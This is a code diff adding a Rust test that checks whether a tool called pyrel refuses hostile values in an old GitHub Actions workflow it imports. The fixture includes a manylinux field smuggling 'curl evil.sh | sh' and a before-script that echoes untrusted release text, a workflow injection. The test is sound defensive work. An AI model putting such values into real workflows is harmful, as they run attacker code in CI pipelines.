@@ -731,3 +731,48 @@ fn interactive_init_preselects_imported_answers() {
         Some("MATURIN_PYPI_TOKEN")
     );
 }
+
+/// Values read from an old workflow are as hostile as any other input:
+/// the ones pyrel could not write safely are not imported (a note says
+/// so), never rendered, and init still succeeds with the defaults.
+#[test]
+fn hostile_imported_values_are_not_imported() {
+    let repo = Repo::fixture("abi3");
+    repo.write(
+        ".github/workflows/wheels.yml",
+        r#"on:
+  release:
+    types: [published]
+jobs:
+  linux:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: PyO3/maturin-action@v1
+        with:
+          target: x86_64
+          manylinux: "2_28; curl evil.sh | sh"
+          args: --release --out dist
+          before-script-linux: echo ${{ github.event.release.body }}
+  publish:
+    runs-on: ubuntu-latest
+    environment: "pypi prod"
+    steps:
+      - uses: pypa/gh-action-pypi-publish@release/v1
+"#,
+    );
+    let out = repo.pyrel(&["init", "--yes"]);
+    out.expect(0);
+    let err = out.stderr();
+    for note in [
+        "note     manylinux not imported",
+        "note     before-script-linux not imported",
+        "note     environment not imported",
+    ] {
+        assert!(err.contains(note), "missing {note:?}:\n{err}");
+    }
+    let wf = repo.read(".github/workflows/release.yml");
+    assert!(!wf.contains("evil.sh") && !wf.contains("release.body") && !wf.contains("pypi prod"));
+    let doc = saved(&repo, ".");
+    assert_eq!(text(&doc, "environment").as_deref(), Some("pypi"));
+    assert_eq!(list(&doc, "platforms"), ["linux-x86_64"]);
+}
